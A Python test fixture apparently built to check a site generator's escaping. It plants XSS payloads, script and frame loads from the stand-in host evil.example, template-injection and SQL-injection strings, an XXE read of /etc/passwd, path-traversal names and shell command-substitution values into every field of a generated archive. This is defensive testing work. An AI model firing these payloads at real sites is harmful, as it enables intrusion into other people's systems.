"""Payloads that try to run, to load or to escape, and an archive with each of them everywhere."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Sequence
from pathlib import Path

EVIL = "evil.example"

ELEMENTS = """\
<script>alert(N)</script>
<ScRiPt>alert(N)</sCrIpT>
</script><script>alert(N)</script>
</title><script>alert(N)</script>
</textarea><script>alert(N)</script>
</style><script>alert(N)</script>
</noscript><script>alert(N)</script>
--><script>alert(N)</script>
]]><script>alert(N)</script>
<script src=//evil.example/N></script>
<script type=module>import '//evil.example/N'</script>
<img src=x onerror=alert(N)>
<img src=//evil.example/N>
<img srcset=//evil.example/N>
<svg onload=alert(N)>
<svg/onload=alert(N)>
<svg><script>alert(N)</script></svg>
<svg><use href=//evil.example/N#x></svg>
<math><mtext></p><script>alert(N)</script>
<body onload=alert(N)>
<iframe src=javascript:alert(N)></iframe>
<iframe src=//evil.example/N></iframe>
<iframe srcdoc='<script>parent.alert(N)</script>'></iframe>
<object data=javascript:alert(N)></object>
<embed src=//evil.example/N>
<details open ontoggle=alert(N)>
<input autofocus onfocus=alert(N)>
<video src=//evil.example/N onerror=alert(N)></video>
<audio src=x onerror=alert(N)></audio>
<marquee onstart=alert(N)>x</marquee>
<style>@import '//evil.example/N'</style>
<link rel=stylesheet href=//evil.example/N>
<link rel=preload as=image href=//evil.example/N>
<meta http-equiv=refresh content='0;url=//evil.example/N'>
<base href=//evil.example/>
<form action=javascript:alert(N)><button autofocus>x</button></form>
<a href=javascript:alert(N)>x</a>
<p style='background:url(//evil.example/N)'>x</p>
<table background=//evil.example/N><td>x</table>
<noscript><p title='</noscript><img src=x onerror=alert(N)>'>
<template><script>alert(N)</script></template>
<plaintext>
<xmp><script>alert(N)</script></xmp>
<!--<script>alert(N)</script>
<![CDATA[<script>alert(N)</script>]]>
<?xml version='1.0'?><script>alert(N)</script>
<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;
""".splitlines()

ATTRIBUTES = """\
" onmouseover=alert(N) autofocus onfocus=alert(N) x="
' onmouseover=alert(N) autofocus onfocus=alert(N) x='
` onmouseover=alert(N) x=`
"><img src=x onerror=alert(N)>
'><svg onload=alert(N)>
"/><script>alert(N)</script>
x" style="background:url(//evil.example/N)
&quot; onfocus=alert(N) autofocus &quot;
&#34;&#62;&#60;script&#62;alert(N)&#60;/script&#62;
&lt;script&gt;alert(N)&lt;/script&gt;
""".splitlines()

LINKS = """\
[x](javascript:alert(N))
[x](JaVaScRiPt:alert(N))
[x](java&#115;cript:alert(N))
[x](javascript&colon;alert(N))
[x](<javascript:alert(N)>)
[x](data:text/html,<script>alert(N)</script>)
[x](vbscript:alert(N))
[x](blob:https://evil.example/N)
[x](file:///etc/passwd)
[x](//evil.example/N)
[x](/\\\\evil.example/N)
![x](//evil.example/N.png)
![x](https://evil.example/N.png)
[x](https://a.example/" onmouseover="alert(N))
[x](https://a.example 'x" onfocus="alert(N)" autofocus')
[<img src=x onerror=alert(N)>](https://a.example/)
<javascript:alert(N)>
<https://evil.example/N>
javascript:alert(N)
data:text/html,<script>alert(N)</script>
//evil.example/N
https://evil.example/N
""".splitlines()

WORDS = """\
{{ 7 * 7 }}N
{{ ''.__class__.__mro__ }}
{{ constructor.constructor('alert(N)')() }}
{% include '/etc/passwd' %}
{% raw %}{{ x }}
${alert(N)}
<%= alert(N) %>
#{7*7}
{text} {citation} {0} {n.__class__}
%s %n %(x)s
","@type":"x","y":"
"});alert(N);//
\\\\u003cscript>alert(N)</script>
'-alert(N)-'
' OR 1=1 --
../../../etc/passwd
..\\\\..\\\\windows
%2e%2e%2f%2e%2e%2fx
__proto__
constructor
toString
expression(alert(N))
$(touch /tmp/huiyao-N)
`touch /tmp/huiyao-N`
""".splitlines()

PAYLOADS = tuple(
    text.replace("N", str(1000 + number)) if "N" in text else f"{text} {1000 + number}"
    for number, text in enumerate((*ELEMENTS, *ATTRIBUTES, *LINKS, *WORDS))
)


LOST = tuple(text for text in PAYLOADS if re.match(r"!?\[x\]\((?:blob:|//|/\\)", text))
"""Links that lead neither into the archive nor to a full address: `check` refuses them."""


def front(**keys: object) -> str:
    """A front matter in which every value is quoted."""
    lines = (f"{key}: {json.dumps(value, ensure_ascii=False)}" for key, value in keys.items())
    return "---\n" + "\n".join(lines) + "\n---\n"


def marked(payload: str) -> str:
    """A payload in every editorial mark."""
    return (
        f"{{~~{payload}~>{payload}x~~}}{{>>{payload}<<}}{{=={payload}==}}{{>>{payload}<<}}"
        f"{{--{payload}--}}{{++{payload}++}}{{>>{payload}<<}}"
    )


def text(payload: str) -> str:
    """A body with a payload in every place; a link that would be refused, as text."""
    if payload in LOST:
        payload = payload.replace("[", "\\[").replace("]", "\\]")
    marks = marked(payload)
    return "\n\n".join(
        (
            payload,
            f"书记{payload}指出，要贯彻{payload}。",
            f"## {payload}",
            f"- {payload}\n- **{payload}**",
            f"> {payload}",
            f"|{payload.replace('|', '')}|\n|-|\n|x|",
            f"`{payload.replace('`', '')}`",
            f"一{marks}二。",
            f"[{payload}](https://a.example/) [x](https://a.example/?{payload})",
        )
    )


def archive(payloads: Sequence[str]) -> Iterator[tuple[str, str]]:
    """The files of an archive in which each payload stands wherever a text can."""
    every = " ".join(payloads)
    site = {
        "title": every, "subtitle": every, "description": every, "publisher": every,
        "rights": every,
        "series": {
            f"s{n}": {"name": p, "short": p, "description": p} for n, p in enumerate(payloads)
        },
        "capacities": {f"c{n}": {"label": p} for n, p in enumerate(payloads)},
    }  # fmt: skip
    yield "site.yaml", json.dumps(site, ensure_ascii=False)
    for n, p in enumerate(payloads):
        who = {"name": p, "role": p, "capacity": ["主持", f"c{n}"], "id": f"p{n}"}
        yield f"sources/s{n}.txt", f"{p}\n\n{p}"
        yield f"sources/s{n}.txt.yaml", json.dumps(
            {
                "publication": p, "page": p, "address": p, "obtained": p, "note": p, "date": "2024",
                "furniture": [{"text": p, "class": "page"}],
            },
            ensure_ascii=False,
        )  # fmt: skip
        yield f"people/p{n}.md", front(name=p, pinyin=p, aliases=[f"{p}甲"], note=p) + text(p)
        alias = re.escape(p)
        yield f"themes/t{n}.md", front(name=p, aliases=[alias], description=p) + text(p)
        yield f"meetings/m{n}.md", front(
            name=p, short=p, series=f"s{n}", number=p, date="2024-01-03", date_basis=p, venue=p,
            organiser=p, adopted=[p],
        ) + text(p)  # fmt: skip
        yield f"articles/a{n}.md", front(
            title=p, kicker=p, subtitle=marked(p), kind="report", source=f"s{n}.txt",
            meeting=f"m{n}", published="2024-01-05", dateline=p, byline={"text": p, "names": [p]},
            captions=[{"text": p, "credit": p}, {"text": marked(p)}], people=[who],
            status="reviewed",
        ) + text(p)  # fmt: skip


def write(root: Path, payloads: Sequence[str]) -> None:
    """Write that archive below a folder, and some files whose names try to escape."""
    for name, content in archive(payloads):
        path = root / "content" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, encoding="utf-8")
    (root / "content/sources").mkdir(exist_ok=True)
    for name in ("<img src=x onerror=alert(9)>", "%2e%2e%2fx", "..\\..\\x", "'\"&"):
        (root / "content/sources" / f"{name}.txt").write_text("甲", encoding="utf-8")
